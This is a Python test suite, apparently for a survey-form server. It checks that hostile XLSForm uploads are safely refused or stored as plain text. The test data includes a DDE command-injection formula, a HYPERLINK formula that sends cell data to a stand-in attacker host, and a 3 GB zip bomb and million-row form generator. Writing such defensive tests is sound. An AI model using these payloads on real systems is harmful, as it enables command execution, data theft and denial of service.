"""Hostile XLSForm uploads over REST: formulas in cells are never evaluated, forms too large to
compile (a million rows, a zip bomb disguised as .xlsx, a huge body) are refused before they are
read whole, and every refusal is a 4xx that writes nothing."""

from __future__ import annotations

import pytest
from lxml import etree

from tests.security.footprint import footprint
from tests.security.streaming import stream_chunked
from tests.security.workbooks import Formula, bomb, deflate, sheet_xml, xlsx

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SETTINGS = [["form_id", "version"], ["hostile", "1"]]
H = "{http://www.w3.org/1999/xhtml}"
XF = "{http://www.w3.org/2002/xforms}"


@pytest.fixture
def unchanged(client, admin, project, engine, blob_store, tmp_path):
    before = footprint(engine, blob_store, tmp_path)

    def check():
        assert footprint(engine, blob_store, tmp_path) == before

    return check


def upload(client, admin, project, body: bytes, content_type=XLSX):
    return client.post(
        f"/v1/projects/{project}/forms?publish=true&ignoreWarnings=true",
        content=body,
        headers={**admin, "Content-Type": content_type},
    )


def labels(client, admin, project, form_id="hostile") -> dict[str, str]:
    response = client.get(f"/v1/projects/{project}/forms/{form_id}.xml", headers=admin)
    assert response.status_code == 200
    body = etree.fromstring(response.content).find(f"{H}body")
    return {i.get("ref").rsplit("/", 1)[1]: i.findtext(f"{XF}label") for i in body}


def still_publishes(client, admin, project):
    form = [["type", "name", "label"], ["text", "q", "Q"]]
    response = upload(client, admin, project, xlsx({"survey": form, "settings": SETTINGS}))
    assert response.status_code == 200, response.text


def test_formula_text_in_cells_is_published_as_plain_text(client, admin, project):
    attacks = ["=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)"]
    survey = [["type", "name", "label"]] + [["text", f"q{i}", a] for i, a in enumerate(attacks)]
    response = upload(client, admin, project, xlsx({"survey": survey, "settings": SETTINGS}))
    assert response.status_code == 200, response.text
    assert labels(client, admin, project) == {f"q{i}": a for i, a in enumerate(attacks)}


def test_formula_cells_are_never_evaluated(client, admin, project, unchanged):
    """pyxform reads a cell's stored value: a formula with none leaves the label empty (refused,
    naming the row), one with a cached value gives that text, never a computed result."""
    survey = [["type", "name", "label"], ["text", "q", Formula("1+1")]]
    response = upload(client, admin, project, xlsx({"survey": survey, "settings": SETTINGS}))
    assert response.status_code == 400
    assert "no label" in response.text and "row 2" in response.text
    unchanged()
    cached = Formula('HYPERLINK("http://evil.example","click")', cached="stored text")
    survey = [
        ["type", "name", "label", "hint"],
        ["text", "q", cached, ""],
        ["text", "r", Formula("1+1"), "a hint keeps this question valid without a label"],
    ]
    response = upload(client, admin, project, xlsx({"survey": survey, "settings": SETTINGS}))
    assert response.status_code == 200, response.text
    assert labels(client, admin, project)["q"] == "stored text"


def million_rows(rows: int) -> bytes:
    survey = deflate(
        (
            b"".join(sheet_xml([["type", "name", "label"]]))[: -len(b"</sheetData></worksheet>")],
            *(
                b'<row><c t="inlineStr"><is><t>text</t></is></c><c t="inlineStr"><is><t>q%d</t>'
                b'</is></c><c t="inlineStr"><is><t>Q</t></is></c></row>' % i
                for i in range(rows)
            ),
            b"</sheetData></worksheet>",
        ),
        "survey",
    )
    return xlsx({"survey": survey, "settings": SETTINGS})


def test_a_million_row_xlsx_is_refused_before_it_is_parsed(client, admin, project, unchanged):
    response = upload(client, admin, project, million_rows(1_000_000))
    assert response.status_code == 400, response.text
    assert "too large" in response.text and "1,000,003 rows" in response.text
    unchanged()
    assert upload(client, admin, project, million_rows(3)).status_code == 200  # a valid form


def test_a_million_row_csv_form_is_refused(client, admin, project, unchanged):
    lines = ["survey,,,", ",type,name,label", *(f",text,q{i},Q" for i in range(1_000_000))]
    lines += ["settings,,,", ",form_id,version,", ",big,1,"]
    body = "\n".join(lines).encode()
    assert len(body) < 20_000_000  # under the upload limit: the row count is what refuses it
    response = upload(client, admin, project, body, "text/csv")
    assert response.status_code == 400 and "more than the 100,000" in response.text
    unchanged()
    still_publishes(client, admin, project)


def test_a_zip_bomb_disguised_as_xlsx_is_refused_without_inflating_it(
    client, admin, project, unchanged
):
    body = xlsx({"survey": bomb("survey", gigabytes=3), "settings": SETTINGS})
    assert len(body) < 4_000_000
    response = upload(client, admin, project, body)
    assert response.status_code == 400
    assert "unzip to 3,221,22" in response.json()["message"]
    unchanged()
    still_publishes(client, admin, project)


def test_a_five_megabyte_label_is_published_or_refused_clearly(client, admin, project):
    label = "Ségou " * 900_000
    survey = [["type", "name", "label"], ["text", "q", label]]
    response = upload(client, admin, project, xlsx({"survey": survey, "settings": SETTINGS}))
    assert response.status_code == 200, response.text[:500]
    assert labels(client, admin, project)["q"] == label.strip()


def test_a_form_upload_declaring_200_mb_is_413_before_it_is_read(client, admin, project, unchanged):
    response = client.post(
        f"/v1/projects/{project}/forms",
        content=b"x" * 10,
        headers={**admin, "Content-Type": XLSX, "Content-Length": "200000000"},
    )
    assert response.status_code == 413 and "20000000 bytes" in response.text
    unchanged()


def test_a_form_upload_streaming_200_mb_is_413_past_the_limit(
    live, client, admin, project, unchanged
):
    status, body, sent = stream_chunked(
        live, f"/v1/projects/{project}/forms", {**admin, "Content-Type": XLSX}, b"PK", 200_000_000
    )
    assert status == 413 and b"20000000 bytes" in body
    assert sent < 60_000_000  # refused at 20 MB, not after buffering the 200 MB
    unchanged()
    still_publishes(client, admin, project)
